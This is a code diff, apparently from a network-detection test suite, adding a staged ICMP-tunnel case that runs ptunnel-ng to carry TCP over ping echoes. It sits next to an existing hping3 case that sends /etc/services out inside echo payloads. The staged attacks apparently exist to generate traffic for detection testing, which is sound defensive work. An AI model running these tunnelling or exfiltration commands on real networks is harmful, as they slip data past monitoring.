@@ -12,6 +12,19 @@ FAR = pods.OUTSIDE4
 WEB = pods.BY_NAME["web"].ip4
 
 
+def _ptunnel(stage: Stage) -> None:
+    stage.server(pods.OUTSIDE, "http 8080")
+    # The far end answers itself, as the tool's manual advises.
+    stage.tool(pods.OUTSIDE, "sysctl -qw net.ipv4.icmp_echo_ignore_all=1")
+    stage.begin(pods.OUTSIDE, f"ptunnel-ng -r{FAR} -R8080 -o/dev/null")
+    child = stage.begin("attacker", f"ptunnel-ng -p{FAR} -l2222 -r{FAR} -R8080 -o/dev/null")
+    stage.listening(child, 2222, udp=False)
+    with stage.attack("icmp_tunnel", "attacker", pods.OUTSIDE):
+        # One connection: the tool takes its time to end a session.
+        pages = " ".join(f"-o /dev/null http://127.0.0.1:2222/page/{size}" for size in range(1000, 4000, 200))
+        stage.tool("attacker", f"curl -sS -m 60 {pages}")
+
+
 def _hping(stage: Stage) -> None:
     with stage.attack("icmp_tunnel", "attacker", pods.OUTSIDE):
         stage.attempt("attacker", f"hping3 -1 -q -d 1200 -E /etc/services -i u10000 -c 1500 {FAR}")
@@ -31,6 +44,7 @@ def _pings(stage: Stage) -> None:
 
 
 CASES = (
+    Case("icmp_tunnel", "ptunnel", "TCP through echoes by ptunnel-ng", _ptunnel, pods=CAST),
     Case("icmp_tunnel", "hping_file_slow", "A file in the payload of echoes that the far end mirrors", _hping,
          pods=CAST, notes="512 kB are reached 4.2 s after the start"),
     Case("icmp_tunnel", "pings_of_sizes", "Pings of many sizes", _pings, pods=CAST),
